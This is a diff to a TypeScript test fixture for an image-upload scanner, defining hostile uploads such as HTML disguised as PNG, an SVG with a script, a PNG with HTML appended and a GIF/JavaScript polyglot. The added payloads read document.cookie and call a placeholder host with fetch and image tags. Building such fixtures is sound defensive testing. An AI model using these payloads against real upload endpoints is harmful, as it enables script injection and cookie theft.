@@ -13,7 +13,11 @@ import {
 	webpOf,
 } from "./scans.ts";
 
-const SCRIPT = "<script>alert(document.cookie)</script>";
+/** What a file says that runs: in the console, to somebody elsewhere, and in a box. */
+export const RAN = "a file ran";
+export const ELSEWHERE = "https://elsewhere.example";
+const CODE = `console.log("${RAN}");fetch("${ELSEWHERE}/told");alert(document.cookie)`;
+const SCRIPT = `<script>${CODE}</script>`;
 
 /** What no file may run, and where no picture may say that it was taken. */
 export const TRACES = ["<script", "GPSLatitude", "23.8103"] as const;
@@ -39,14 +43,16 @@ const withPosition = () =>
 
 /** What somebody might send instead of a picture, by what it is. */
 export const HOSTILE_FILES = {
-	"HTML named .png": () => textBytes(`<!doctype html><html><body>${SCRIPT}</body></html>`),
-	"an SVG with a script": () => textBytes(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`),
+	"HTML named .png": () =>
+		textBytes(`<!doctype html><html><body>${SCRIPT}<img src="${ELSEWHERE}/drawn" alt=""></body></html>`),
+	"an SVG with a script": () =>
+		textBytes(`<svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}<image href="${ELSEWHERE}/drawn"/></svg>`),
 	"a PNG with HTML behind it": () =>
 		joined(
 			png(8, 8, () => [10, 120, 60]),
 			SCRIPT,
 		),
-	"a GIF that is a script as well": () => textBytes(`GIF89a/*${SCRIPT}*/=1;alert(1)`),
+	"a GIF that is a script as well": () => textBytes(`GIF89a/*${SCRIPT}*/=1;${CODE}`),
 	"a byte more than 10 MB": () => heavyPng(10 * MB + 1),
 	"zero bytes": () => new Uint8Array(),
 	"a broken PNG": () => pngOf().slice(0, 60),
